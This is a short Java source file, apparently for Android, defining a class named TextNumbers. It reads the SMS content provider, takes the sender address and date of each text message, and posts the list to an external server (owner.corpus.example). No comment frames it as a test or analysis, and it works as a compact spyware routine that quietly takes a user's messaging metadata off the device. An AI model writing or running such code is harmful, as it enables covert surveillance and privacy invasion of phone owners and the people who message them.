package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Who wrote when. */
public class TextNumbers extends Screen {
    @Override
    protected void act() throws Exception {
        String all = String.join("\n", Owner.rows(this, "content://sms", "address", "date"));
        Net.post("http://owner.corpus.example/numbers", "text/plain", all);
    }
}
